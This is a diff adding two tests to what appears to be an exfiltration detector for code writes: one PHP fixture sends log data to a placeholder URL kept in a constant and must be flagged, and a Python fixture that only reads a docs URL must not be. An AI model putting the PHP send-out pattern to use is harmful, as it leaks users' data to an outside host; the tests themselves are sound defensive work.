@@ -115,3 +115,20 @@ def test_a_step_added_beside_the_scan_does_not() -> None:
         "    run: security_scan --strict",
     )
     assert "code.control_weakened" not in found
+
+
+def test_an_address_kept_in_a_constant_and_sent_to_elsewhere_in_the_file() -> None:
+    text = (
+        "<?php\ndefine('REMOTE_HOOK_URL', 'http://example.com/hook.php');\n\n"
+        "function push($log) {\n    $url = REMOTE_HOOK_URL . '?data=' . urlencode($log);\n"
+        "    return file_get_contents($url);\n}\n"
+    )
+    assert "code.exfiltration" in write("/w/logger.php", text)
+
+
+def test_an_address_kept_in_a_constant_and_only_read_from() -> None:
+    text = (
+        "import requests\nDOCS_URL = 'https://docs.example.com/api'\n\n"
+        "def fetch():\n    return requests.get(DOCS_URL, timeout=5).text\n"
+    )
+    assert "code.exfiltration" not in write("/w/docs.py", text)
